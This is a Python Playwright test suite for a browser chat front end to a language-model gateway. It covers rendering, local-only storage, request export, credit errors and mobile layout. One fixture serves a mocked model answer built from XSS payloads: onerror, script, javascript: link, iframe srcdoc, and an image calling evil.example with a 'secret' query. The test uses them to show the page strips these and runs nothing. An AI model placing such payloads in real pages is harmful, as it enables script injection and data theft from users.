"""The chat: what it shows, what it keeps in the browser, and what it never lets out of it."""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, Route, expect

from tests.browser.look import axe
from tests.browser.site import ROOT, Member, Site
from tests.browser.test_app_pages import act, enter

MODEL = "alltoken/smollm2-135m-instruct"
ENGINE_MS = 180_000  # loading the model and answering, on two cores shared with a browser
PROMPT = "canary-7f3e9a: name one colour."
HOSTILE = (
    "**bold** <img src=x onerror='window.hit=1'><script>window.hit=2</script> "
    "[here](javascript:window.hit=3) ![spy](https://evil.example/?q=secret)\n\n"
    "<iframe srcdoc='<script>parent.hit=4</script>'></iframe>\n\n```js\nalert(1)\n```\n"
)


@pytest.fixture
def chat(page: Page, site: Site, member: Member) -> Page:
    enter(page, site, member, f"/chat?model={MODEL}")
    expect(page.get_by_label("Answers come from")).to_have_value(MODEL)
    return page


def say(page: Page, text: str) -> Locator:
    page.get_by_label("Message").fill(text)
    page.keyboard.press("Control+Enter")
    return page.get_by_role("article").last


def stream(*events: object) -> bytes:
    data = "".join(f"data: {json.dumps(event)}\n\n: keep-alive\n\n" for event in events)
    return f": hello\n\n{data}data: [DONE]\n\n".encode()


@pytest.fixture
def hostile(chat: Page) -> Iterator[Page]:
    """The chat page with a gateway whose answers are an attack."""
    used = {"prompt_tokens": 7, "completion_tokens": 9, "cost": 0.0000012}
    body = stream(
        {"id": "gen_x", "model": MODEL, "choices": [{"delta": {"content": HOSTILE}}]},
        {"id": "gen_x", "model": MODEL, "choices": [], "usage": used},
    )

    def answer(route: Route) -> None:
        route.fulfill(status=200, content_type="text/event-stream", body=body)

    chat.route("**/v1/chat/completions", answer)
    yield chat
    chat.unroute("**/v1/chat/completions")


def test_an_answer_cannot_run_anything_or_load_anything(hostile: Page) -> None:
    answer = say(hostile, "Attack")
    expect(answer.get_by_role("link", name="Details")).to_be_visible()
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("pre")).to_have_text("alert(1)\n")
    assert answer.locator("img, script, iframe, a[href^='javascript']").count() == 0
    assert hostile.evaluate("window.hit") is None
    axe(hostile)


def test_conversations_stay_in_the_browser_until_they_are_deleted(hostile: Page) -> None:
    expect(say(hostile, "First question").get_by_role("link", name="Details")).to_be_visible()
    hostile.get_by_role("button", name="Edit and branch").click()
    hostile.get_by_label("Your message").fill("Other question")
    hostile.get_by_role("button", name="Send as a new branch").click()
    list_ = hostile.get_by_role("navigation", name="Conversations")
    expect(list_.get_by_role("listitem")).to_have_count(2)
    act(hostile, "Other question", "Rename")
    hostile.get_by_label("Title").fill("Renamed")
    hostile.keyboard.press("Enter")
    expect(hostile.get_by_role("heading", name="Renamed")).to_be_visible()
    hostile.wait_for_timeout(800)  # saved after a moment of quiet
    hostile.reload()
    list_.get_by_text("Renamed").click()
    expect(hostile.get_by_role("article")).to_have_count(2)
    with hostile.expect_download() as download:
        act(hostile, "Renamed", "Export as JSON")
    kept = json.loads(Path(download.value.path()).read_text())
    assert [turn["role"] for turn in kept["turns"]] == ["user", "assistant"]
    hostile.get_by_role("button", name="delete all").click()
    hostile.get_by_role("button", name="Delete", exact=True).click()
    expect(list_.get_by_role("listitem")).to_have_count(0)
    hostile.reload()
    expect(list_.get_by_text("Conversations are kept in this browser only.")).to_be_visible()


def test_the_code_is_the_request_that_was_made(hostile: Page) -> None:
    hostile.get_by_label("System prompt").fill("Be brief.")
    hostile.get_by_label("Longest answer, tokens").fill("12")
    with hostile.expect_request("**/v1/chat/completions") as sent:
        say(hostile, "What's up?")
    expect(hostile.get_by_role("link", name="Details")).to_be_visible()
    hostile.get_by_role("button", name="Copy as code").click()
    code = hostile.get_by_role("tabpanel", name="curl").inner_text()
    body = code.split("-d '", 1)[1].rstrip("'\n").replace("'\\''", "'")
    asked = json.loads(sent.value.post_data or "")
    assert json.loads(body) == {name: asked[name] for name in ("model", "messages", "max_tokens")}
    assert asked["messages"][0] == {"role": "system", "content": "Be brief."}
    axe(hostile)


def test_a_refusal_says_what_was_charged_and_what_to_do(chat: Page, troubles: list[str]) -> None:
    error = {
        "message": "This may cost up to $2.00; $0.10 is available.",
        "code": "insufficient_credits",
        "charged": "0",
        "request_id": "req_refused",
    }
    chat.route(
        "**/v1/chat/completions", lambda route: route.fulfill(status=402, json={"error": error})
    )
    said = say(chat, "Too much")
    for words in (error["message"], "insufficient_credits", "Charged $0.00", "req_refused"):
        expect(said).to_contain_text(words)
    expect(said.get_by_role("link", name="Add credit")).to_have_attribute("href", "/app/wallet")
    expect(said.get_by_role("button", name="Try again")).to_be_visible()
    axe(chat)
    troubles[:] = [one for one in troubles if "402" not in one]


def test_what_is_said_is_nowhere_on_the_server(chat: Page, site: Site) -> None:
    answer = say(chat, PROMPT)
    expect(answer.get_by_role("link", name="Details")).to_be_visible(timeout=ENGINE_MS)
    expect(chat.get_by_text("Sent to Local. Not stored by us.")).to_be_visible()
    words = answer.locator(".answer, .answer-plain").inner_text().strip()
    assert words
    places = [site.var, ROOT / "test-results" / f"site-{site.kind}.log", ROOT / ".states"]
    files = [f for place in places for f in ([place] if place.is_file() else place.rglob("*"))]
    kept = b"".join(f.read_bytes() for f in files if f.is_file())
    assert b"canary-7f3e9a" not in kept
    assert words.encode() not in kept


def test_an_answer_can_be_stopped_and_is_then_priced(chat: Page) -> None:
    answer = say(chat, "Count from one to five hundred, in words.")
    expect(answer.locator(".answer, .answer-plain")).to_be_visible(timeout=ENGINE_MS)
    chat.keyboard.press("Escape")
    expect(answer).to_contain_text("Stopped. Only what had arrived is charged.")
    expect(answer).to_contain_text(re.compile(r"\d+ in · \d+ out"))
    expect(answer).to_contain_text(re.compile(r"\$0\.0000\d+"))


def test_the_chat_works_on_a_phone(hostile: Page) -> None:
    hostile.set_viewport_size({"width": 360, "height": 740})
    expect(say(hostile, "Small screen").get_by_role("link", name="Details")).to_be_visible()
    hostile.get_by_role("button", name="Conversations").click()
    expect(hostile.get_by_role("dialog").get_by_text("Small screen")).to_be_visible()
    axe(hostile)
    hostile.keyboard.press("Escape")
    hostile.get_by_role("button", name="Settings").click()
    hostile.get_by_role("dialog").get_by_label("Temperature").fill("0.5")
    expect(hostile.get_by_role("dialog").get_by_text("0.5")).to_be_visible()
    axe(hostile)


def test_who_is_signed_out_is_asked_to_sign_in_first(page: Page) -> None:
    page.goto("/chat")
    link = page.get_by_role("link", name="Sign in to chat")
    expect(link).to_have_attribute("href", "/signin?next=/chat")
